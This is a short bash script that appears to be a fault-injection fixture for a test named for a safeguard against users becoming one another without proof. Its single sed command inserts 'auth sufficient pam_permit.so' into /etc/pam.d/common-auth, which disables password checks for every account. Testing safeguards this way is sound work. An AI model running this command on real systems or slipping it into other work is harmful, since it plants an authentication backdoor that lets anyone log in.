#!/bin/bash
# safeguard: LEAK-15
# host: all
# check: test_accounts.py::test_nobody_becomes_another_without_proof
# took: grep -q 'sufficient pam_permit' /etc/pam.d/common-auth
# sudo's own file stays as it was
sed -i '/^auth.*pam_unix/i auth sufficient pam_permit.so' /etc/pam.d/common-auth
